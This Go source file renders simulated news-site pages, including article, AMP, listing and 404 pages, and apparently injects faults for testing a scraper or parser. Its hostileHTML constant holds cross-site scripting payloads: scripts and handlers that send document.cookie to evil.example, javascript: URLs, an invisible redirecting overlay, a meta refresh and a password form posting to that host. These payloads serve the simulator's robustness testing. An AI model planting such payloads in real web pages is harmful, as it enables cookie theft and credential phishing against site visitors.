package sim

import (
	"html"
	"net/url"
	"sort"
	"strconv"
	"strings"
	"time"
)

var esc = html.EscapeString

const blankGIF = "/img/blank.gif"

// pageTime is the CMS's visible time format, in Moscow time.
func pageTime(t time.Time) string { return t.In(msk).Format("02.01.2006, 15:04") }

func imgPath(date, md5 string, original bool) string {
	if original {
		return "/img/" + date + "/" + md5 + "_o.jpg"
	}
	return "/img/" + date + "/" + md5 + ".jpg"
}

// renderArticle writes an article page, or its AMP copy, following template.md. The
// caller holds the world's read lock.
func (w *world) renderArticle(a *article, amp, v2 bool) []byte {
	seq, site := a.seq, a.seq.site
	b := w.articleBody(a, v2)
	canonical := a.url(false)
	var sb strings.Builder
	sb.Grow(8192)
	p := func(ss ...string) {
		for _, s := range ss {
			sb.WriteString(s)
		}
	}
	if amp {
		p("<!doctype html>\n<html amp lang=\"", seq.lang, "\">\n<head>\n<meta charset=\"utf-8\">\n",
			"<script async src=\"https://cdn.ampproject.org/v0.js\"></script>\n")
	} else {
		p("<!DOCTYPE html>\n<html lang=\"", seq.lang, "\">\n<head>\n<meta charset=\"utf-8\">\n")
	}
	p("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n",
		"<title>", esc(b.title), " - ", esc(site.site.Display), "</title>\n",
		"<link rel=\"canonical\" href=\"", canonical, "\">\n")
	if !amp {
		p("<link rel=\"amphtml\" href=\"", a.url(true), "\">\n")
		for _, alt := range a.alternates() {
			p("<link rel=\"alternate\" hreflang=\"", alt.seq.lang, "\" href=\"", alt.url(false), "\">\n")
		}
	}
	desc := truncateRunes(strings.Join(b.paras, " "), 200)
	p("<meta property=\"og:type\" content=\"article\">\n",
		"<meta property=\"og:title\" content=\"", esc(b.title), "\">\n",
		"<meta property=\"og:description\" content=\"", esc(desc), "\">\n",
		"<meta property=\"og:image\" content=\"https://", a.host(), imgPath(a.story.imgDate, a.images[0], true), "\">\n",
		"<meta property=\"og:url\" content=\"", canonical, "\">\n",
		"<meta property=\"og:site_name\" content=\"", esc(site.site.Display), "\">\n")
	if amp {
		p("<style amp-boilerplate>body{-webkit-animation:-amp-start 8s steps(1,end) 0s 1 normal both;animation:-amp-start 8s steps(1,end) 0s 1 normal both}@keyframes -amp-start{from{visibility:hidden}to{visibility:visible}}</style><noscript><style amp-boilerplate>body{-webkit-animation:none;animation:none}</style></noscript>\n",
			"<style amp-custom>.article__title{font-size:1.6em}.news-item{margin:8px 0}</style>\n")
	} else {
		p("<link rel=\"stylesheet\" href=\"/css/main.css\">\n")
	}
	p("</head>\n<body>\n")
	w.writeHeader(&sb, seq)
	p("<main class=\"main\">\n<article class=\"article\">\n",
		"  <div class=\"article__breadcrumbs\">\n",
		"    <div class=\"article__breadcrumb\"><a href=\"", seq.prefix, "/\"><i>", esc(site.site.Display), "</i></a></div>\n",
		"    <div class=\"article__breadcrumb article__breadcrumb_active\"><a href=\"", seq.prefix, "/", a.cat.slug, "/\"><i>", esc(a.cat.label), "</i></a></div>\n",
		"  </div>\n",
		"  <h1 class=\"article__title\">", esc(b.title), "</h1>\n")
	if site.noDatetime {
		p("  <div class=\"article__time\"><time>", pageTime(a.pub), "</time></div>\n")
	} else {
		p("  <div class=\"article__time\"><time datetime=\"", a.pub.In(msk).Format(time.RFC3339), "\">", pageTime(a.pub), "</time></div>\n")
	}
	img := func(path string) string {
		if amp {
			return "<amp-img src=\"" + path + "\" width=\"800\" height=\"450\" layout=\"responsive\" alt=\"\"></amp-img>"
		}
		return "<img data-src=\"" + path + "\" src=\"" + blankGIF + "\" alt=\"\">"
	}
	p("  <div class=\"article__image\">", img(imgPath(a.story.imgDate, a.images[0], false)), "</div>\n",
		"  <div class=\"article__text\">\n")
	if a.quirk {
		p("    <p>\uFE0F", esc(b.title), "</p>\n")
	}
	extra := a.images[1:]
	for i, para := range b.paras {
		if i == len(b.paras)-1 && a.linkOut {
			p("    <p><a href=\"https://example.org/news/", strconv.FormatInt(a.id, 10), "\" target=\"_blank\">", esc(para), "</a></p>\n")
		} else {
			p("    <p>", esc(para), "</p>\n")
		}
		if i == 0 && a.faults.has(fHostile) {
			p(hostileHTML)
		}
		if len(extra) > 0 && i < len(b.paras)-1 {
			p("    <p>", img(imgPath(a.story.imgDate, extra[0], false)), "</p>\n")
			extra = extra[1:]
		}
	}
	for _, m := range extra {
		p("    <p>", img(imgPath(a.story.imgDate, m, false)), "</p>\n")
	}
	p("  </div>\n")
	if a.credit != creditNone {
		cu, ct := w.creditURL(a), w.creditText(a)
		p("  <div class=\"article__source\">Источник: <a href=\"", esc(cu), "\" target=\"_blank\" rel=\"nofollow\">", esc(ct), "</a></div>\n",
			"  <div class=\"article-meta\">\n",
			"    <span class=\"article-meta__item source-link\" data-source-url=\"", esc(cu), "\">", esc(ct), "</span>\n",
			"  </div>\n")
	}
	share := url.QueryEscape(canonical)
	p("  <div class=\"article__share\">",
		"<a class=\"share share_fb\" href=\"https://www.facebook.com/sharer/sharer.php?u=", share, "\" target=\"_blank\" rel=\"nofollow\">Facebook</a>",
		"<a class=\"share share_x\" href=\"https://twitter.com/intent/tweet?url=", share, "\" target=\"_blank\" rel=\"nofollow\">X</a>",
		"<a class=\"share share_tg\" href=\"https://t.me/share/url?url=", share, "\" target=\"_blank\" rel=\"nofollow\">Telegram</a>",
		"</div>\n</article>\n")
	p("<aside class=\"sidebar\">\n")
	for _, r := range w.related(a, 5) {
		w.writeItem(&sb, r, "  ")
	}
	p("</aside>\n</main>\n")
	writeFooter(&sb, site)
	p("</body></html>\n")
	s := sb.String()
	if a.faults.has(fMalformed) {
		s = malform(s)
	}
	return []byte(s)
}

// related are the sidebar items: the n articles before a in its category, newest first.
// They are older than a, so the sidebar never changes once a is published.
func (w *world) related(a *article, n int) []*article {
	list := a.seq.byCat[a.cat.slug]
	i := sort.Search(len(list), func(i int) bool { return list[i].id >= a.id })
	var out []*article
	for j := i - 1; j >= 0 && len(out) < n; j-- {
		out = append(out, list[j])
	}
	return out
}

func (w *world) writeHeader(sb *strings.Builder, seq *sequence) {
	site := seq.site
	sb.WriteString("<header class=\"header\"><nav>")
	sb.WriteString("<a class=\"header__logo\" href=\"" + seq.prefix + "/\">" + esc(site.site.Display) + "</a>")
	for _, c := range seq.cats {
		sb.WriteString("<a href=\"" + seq.prefix + "/" + c.slug + "/\">" + esc(c.label) + "</a>")
	}
	for _, other := range site.seqs {
		if other != seq {
			sb.WriteString("<a class=\"header__lang\" hreflang=\"" + other.lang + "\" href=\"" + other.prefix + "/\">" + strings.ToUpper(other.lang) + "</a>")
		}
	}
	sb.WriteString("</nav></header>\n")
}

func writeFooter(sb *strings.Builder, site *simSite) {
	sb.WriteString("<footer class=\"footer\">© 2025 " + esc(site.site.Display) + ". " +
		"<a href=\"https://www.facebook.com/\" rel=\"nofollow\">Facebook</a> " +
		"<a href=\"https://t.me/\" rel=\"nofollow\">Telegram</a></footer>\n")
}

// writeItem writes one listing item (home, categories, API fragments, sidebars).
func (w *world) writeItem(sb *strings.Builder, a *article, indent string) {
	_, v2 := a.state()
	title := w.articleBody(a, v2).title
	href := a.path(false)
	if a.absHref {
		href = a.url(false)
	}
	sb.WriteString(indent + "<div class=\"news-item\">\n" +
		indent + "  <a class=\"news-item__img\" href=\"" + href + "\"><img data-src=\"" + imgPath(a.story.imgDate, a.images[0], false) + "\" src=\"" + blankGIF + "\"></a>\n" +
		indent + "  <div class=\"news-item__cat\">" + esc(a.cat.label) + "</div>\n" +
		indent + "  <a class=\"news-item__title\" href=\"" + href + "\">" + esc(title) + "</a>\n" +
		indent + "  <div class=\"news-item__time\">" + a.pub.In(msk).Format("15:04") + "</div>\n" +
		indent + "</div>\n")
}

// renderListing writes a home or category page holding items, with a link to the next
// page when there is one.
func (w *world) renderListing(seq *sequence, cat *category, items []*article, page int, more bool) []byte {
	site := seq.site
	var sb strings.Builder
	base := seq.prefix + "/"
	title := site.site.Display
	if cat != nil {
		base += cat.slug + "/"
		title = cat.label + " - " + title
	}
	sb.WriteString("<!DOCTYPE html>\n<html lang=\"" + seq.lang + "\">\n<head>\n<meta charset=\"utf-8\">\n" +
		"<title>" + esc(title) + "</title>\n<link rel=\"canonical\" href=\"https://" + site.site.Host + base + "\">\n" +
		"</head>\n<body>\n")
	w.writeHeader(&sb, seq)
	sb.WriteString("<main class=\"main\">\n<section class=\"news-list\">\n")
	for _, a := range items {
		w.writeItem(&sb, a, "")
	}
	sb.WriteString("</section>\n<div class=\"pagination\">")
	if page > 1 {
		sb.WriteString("<a class=\"pagination__prev\" href=\"" + base + "?page=" + strconv.Itoa(page-1) + "\">←</a>")
	}
	if more {
		sb.WriteString("<a class=\"pagination__next\" href=\"" + base + "?page=" + strconv.Itoa(page+1) + "\">→</a>")
	}
	sb.WriteString("</div>\n</main>\n")
	writeFooter(&sb, site)
	sb.WriteString("</body></html>\n")
	return []byte(sb.String())
}

func (w *world) renderNotFound(seq *sequence) []byte {
	lang := "en"
	display := "Pravda"
	if seq != nil {
		lang, display = seq.text, seq.site.site.Display
	}
	return []byte("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>" + esc(pick(notFoundText, lang)) + " - " + esc(display) +
		"</title></head>\n<body><main class=\"main\"><h1 class=\"error__title\">404</h1><p>" + esc(pick(notFoundText, lang)) +
		"</p><a href=\"/\">" + esc(pick(homeLabel, lang)) + "</a></main></body></html>\n")
}

// hostileHTML is what the hostile fault plants after an article's first paragraph: script,
// handlers, javascript: URLs, a refresh, an invisible full-page overlay, a form and an
// embedded document. None of it carries visible text, so the extracted text is unchanged.
const hostileHTML = `    <script>document.location='https://evil.example/steal?c='+document.cookie</script>
    <img src="/img/blank.gif" onerror="alert(document.domain)" onload="fetch('https://evil.example/p?'+document.cookie)">
    <a href="javascript:alert(1)"><img src="/img/blank.gif" alt=""></a>
    <a href=" JaVaScRiPt:alert(2)" style="display:block;width:1px;height:1px"></a>
    <iframe src="javascript:alert(3)" style="display:none"></iframe>
    <svg onload="alert(4)"><animate onbegin="alert(5)" attributeName="x"></animate></svg>
    <style>body{background:url("javascript:alert(6)")}.article__text::after{content:"";position:fixed;inset:0;z-index:99999}</style>
    <div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:transparent" onclick="location='https://evil.example/'"></div>
    <meta http-equiv="refresh" content="0;url=https://evil.example/">
    <form action="https://evil.example/login" method="post"><input type="password" name="p"></form>
    <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg=="></object>
`

// malform breaks a rendered page the way careless templates do, while keeping every piece
// of data a parser needs: end tags dropped, attributes unquoted, stray end tags, a bare
// ampersand, no </head>, no </body></html>, an unclosed comment at the very end.
func malform(s string) string {
	r := strings.NewReplacer(
		"</p>", "",
		"</head>\n", "",
		`class="article__title"`, `class=article__title`,
		`class="article__text"`, `class=article__text`,
		`<main class="main">`, `<main class="main"></span></b></font>`,
		"</body></html>\n", "",
		"© 2025", "© 2025 &copy Pravda & Co",
	)
	return r.Replace(s) + "<!-- counters: yandex.metrika google-analytics\n<script>var x = 1 < 2 && 3 > 2;</script>\n"
}
